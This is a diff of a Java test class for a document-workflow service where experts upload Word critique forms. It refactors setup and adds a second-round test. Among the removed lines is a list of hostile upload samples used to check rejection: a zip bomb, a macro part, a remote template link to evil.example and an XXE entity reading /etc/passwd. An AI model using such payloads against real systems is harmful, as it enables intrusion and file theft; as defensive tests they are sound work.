@@ -1,23 +1,12 @@
 package vn.phanbien.stories;
 
-import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Map;
-import java.util.stream.Stream;
+import java.util.Optional;
 
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.params.ParameterizedTest;
-import org.junit.jupiter.params.provider.Arguments;
-import org.junit.jupiter.params.provider.MethodSource;
 import tools.jackson.databind.JsonNode;
 
-import org.springframework.beans.factory.annotation.Autowired;
-import org.springframework.jdbc.core.simple.JdbcClient;
-
-import vn.phanbien.document.SampleFiles;
-import vn.phanbien.support.ApiClient;
-import vn.phanbien.support.ApiReply;
 import vn.phanbien.support.ApiUser;
 import vn.phanbien.support.SmallPdf;
 import vn.phanbien.support.WordEdit;
@@ -28,31 +17,7 @@ import static org.assertj.core.api.Assertions.assertThat;
  * An expert fills a critique in with Word and sends it back; it is read into the draft of
  * whoever sends it, and only the page decides.
  */
-@SuppressWarnings("NullAway.Init")
-abstract class OfflineFormStory {
-
-	private static final String FILE = "phieu.docx";
-
-	@Autowired
-	private ApiClient api;
-
-	@Autowired
-	private JdbcClient database;
-
-	private String caseNumber;
-
-	private String step;
-
-	private ApiUser expert;
-
-	@BeforeEach
-	void asksForCritiques() {
-		SonLa sonLa = new SonLa(this.api);
-		this.caseNumber = sonLa.assigned("CRITIQUE");
-		this.step = sonLa.walkTo(this.caseNumber, "Task_SubmitCritique");
-		this.expert = this.api
-			.as(this.api.as(SonLa.CLERK).get("/work-items/" + this.step).ok().path("assignee").asString(""));
-	}
+abstract class OfflineFormStory extends AskedExpert {
 
 	@Test
 	void readsAFormIntoTheDraftAndDecidesNothing() {
@@ -118,44 +83,6 @@ abstract class OfflineFormStory {
 	}
 
 	@Test
-	void refusesAFormOfAnotherCaseOrExpert() {
-		SonLa sonLa = new SonLa(this.api);
-		List<String> steps = sonLa.openSteps(this.caseNumber, "Task_SubmitCritique");
-		byte[] own = form(this.expert);
-		String other = sonLa.walkTo(sonLa.assigned("CRITIQUE"), "Task_SubmitCritique");
-		byte[] elsewhere = this.api.as(SonLa.OFFICER).get("/work-items/" + other + "/form.docx").content();
-
-		assertThat(code(upload(elsewhere))).isEqualTo("otherCase");
-		assertThat(code(upload(WordEdit.body(WordEdit.part(own, "docProps/custom.xml", (xml) -> "<Properties/>"),
-				(xml) -> xml.replaceAll("NX1\\.[\\w.]+", "")))))
-			.isEqualTo("notOurs");
-		steps.stream()
-			.filter((one) -> !one.equals(this.step))
-			.findFirst()
-			.ifPresent((one) -> assertThat(
-					code(this.api.as(SonLa.OFFICER).upload("/work-items/" + one + "/form.docx", FILE, own, Map.of())))
-				.isEqualTo("otherPerson"));
-		assertThat(read().path("draft").isNull()).isTrue();
-	}
-
-	@Test
-	void showsNobodyAnotherPersonsDraft() {
-		upload(WordEdit.write(form(this.expert), "s1", "Chỉ của tôi")).ok();
-		String path = "/work-items/" + this.step + "/form.docx";
-
-		this.api.as(SonLa.AUTHORITY).get(path).refused(404);
-		this.api.as("th-chuyengia1").get(path).refused(404);
-		this.api.as(SonLa.CLERK).get(path).refused(403);
-		this.api.as("th-chuyengia1").upload(path, FILE, form(this.expert), Map.of()).refused(404);
-		ApiReply secretarys = this.api.as(SonLa.OFFICER).get(path);
-		assertThat(secretarys.status()).isEqualTo(200);
-		assertThat(WordEdit.body(secretarys.content(), (xml) -> {
-			assertThat(xml).doesNotContain("Chỉ của tôi");
-			return xml;
-		})).isNotEmpty();
-	}
-
-	@Test
 	void letsTheSecretaryReadAFormInTheExpertsNameWithTheScan() {
 		ApiUser secretary = this.api.as(SonLa.OFFICER);
 		byte[] form = WordEdit.write(form(secretary), "general", "Viết tay, đánh máy lại");
@@ -180,74 +107,65 @@ abstract class OfflineFormStory {
 		assertThat(critiques).contains("Viết tay, đánh máy lại", "Số liệu cũ");
 	}
 
-	static Stream<Arguments> attacks() {
-		byte[] zeros = new byte[30 * 1024 * 1024];
-		return Stream.of(Arguments.of("empty", FILE, new byte[0]),
-				Arguments.of("notWord", "phieu.pdf", SampleFiles.pdf()),
-				Arguments.of("wrongExtension", FILE, SampleFiles.pdf()),
-				Arguments.of("macros", FILE, SampleFiles.docxWith("word/vbaProject.bin", new byte[] { 1 })),
-				Arguments.of("zipBomb", FILE, SampleFiles.docxWith("word/media/image1.png", zeros)),
-				Arguments.of("externalContent", FILE,
-						SampleFiles.docxWith("word/_rels/settings.xml.rels",
-								("<Relationships><Relationship Type=\"x/attachedTemplate\" TargetMode=\"External\""
-										+ " Target=\"https://evil.example/t.dotm\"/></Relationships>")
-									.getBytes(StandardCharsets.UTF_8))),
-				Arguments.of("damaged", FILE,
-						SampleFiles.docxWith("word/document.xml",
-								"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"
-									.getBytes(StandardCharsets.UTF_8))),
-				Arguments.of("typeNotAllowed", FILE, new byte[] { (byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0,
-						(byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1 }),
-				Arguments.of("notOurs", FILE, SampleFiles.docx()));
-	}
-
-	@ParameterizedTest(name = "{0}")
-	@MethodSource("attacks")
-	void storesNothingOfWhatIsNoForm(String reason, String name, byte[] content) {
-		long before = documents();
-
-		ApiReply reply = this.expert.upload("/work-items/" + this.step + "/form.docx", name, content, Map.of());
-
-		assertThat(code(reply)).isEqualTo(reason);
-		assertThat(documents()).isEqualTo(before);
-		assertThat(read().path("draft").isNull()).isTrue();
-	}
-
 	@Test
-	void hasNoFormForOtherSteps() {
+	void asksInTheSecondRoundWhatBecameOfEachPoint() {
+		byte[] first = form(this.expert);
+		this.expert
+			.post("/work-items/" + this.step + "/complete", Map
+				.of("decision", "SUBMIT", "version", read().path("version").asInt(), "fields",
+						Map.of("conclusion", "AGREE", "confirmed", true, "points", List
+							.of(Map.of("section", "3", "page", "34", "problem", "Thiếu số liệu\nhai năm gần đây")))))
+			.ok();
+		this.step = secondRound();
+
+		byte[] second = this.expert.get("/work-items/" + this.step + "/form.docx").content();
+		String point = fields("earlier").get(0);
+		JsonNode report = upload(WordEdit.body(second, (xml) -> {
+			int list = xml.indexOf(">Chọn<", xml.indexOf("<w:tag w:val=\"" + point + "\""));
+			return xml.substring(0, list) + ">giải quyết một phần<" + xml.substring(list + ">Chọn<".length());
+		})).ok();
+
+		assertThat(report.path("unread")).isEmpty();
+		assertThat(value(point).asString("")).isEqualTo("PARTLY");
+		assertThat(code(upload(first))).isEqualTo("otherRound");
+	}
+
+	/** Walks until the same expert is asked again. */
+	private String secondRound() {
 		SonLa sonLa = new SonLa(this.api);
-		String other = sonLa.walkTo(sonLa.assigned("CRITIQUE"), "Task_PreparePlan");
-
-		this.api.as(SonLa.OFFICER).get("/work-items/" + other + "/form.docx").refused(404);
+		sonLa.walker()
+			.deciding((item) -> Optional.of("ANOTHER_ROUND")
+				.filter((another) -> item.path("step").asString("").equals("Task_DecideRound")))
+			.walkUntil(this.caseNumber, (theCase) -> rounds() == 2 && !asked(sonLa).isEmpty());
+		return asked(sonLa).get(0);
 	}
 
-	private long documents() {
-		return this.database.sql("select count(*) from document where case_number = ?")
-			.param(this.caseNumber)
-			.query(Long.class)
-			.single();
+	private int rounds() {
+		return this.api.as(SonLa.OFFICER).get("/assignments/" + this.caseNumber + "/rounds").ok().path("items").size();
 	}
 
-	private byte[] form(ApiUser user) {
-		ApiReply reply = user.get("/work-items/" + this.step + "/form.docx");
-		assertThat(reply.status()).as(reply.call()).isEqualTo(200);
-		return reply.content();
+	private List<String> asked(SonLa sonLa) {
+		return sonLa.openSteps(this.caseNumber, "Task_SubmitCritique")
+			.stream()
+			.filter((open) -> this.api.as(SonLa.CLERK)
+				.get("/work-items/" + open)
+				.ok()
+				.path("assignee")
+				.asString("")
+				.equals(this.expert.username()))
+			.toList();
 	}
 
-	private ApiReply upload(byte[] form) {
-		return this.expert.upload("/work-items/" + this.step + "/form.docx", FILE, form, Map.of());
-	}
-
-	private static String code(ApiReply reply) {
-		return reply.refused(422).path("errors").path(0).path("code").asString("");
+	private List<String> fields(String prefix) {
+		return read().path("fields")
+			.valueStream()
+			.map((field) -> field.path("name").asString(""))
+			.filter((name) -> name.startsWith(prefix))
+			.toList();
 	}
 
 	private void save(Map<String, ?> fields) {
 		this.expert.put("/work-items/" + this.step + "/draft", Map.of("fields", fields)).ok();
-	}
-
-	private JsonNode read() {
-		return this.expert.get("/work-items/" + this.step).ok();
 	}
 
 	private JsonNode value(String name) {
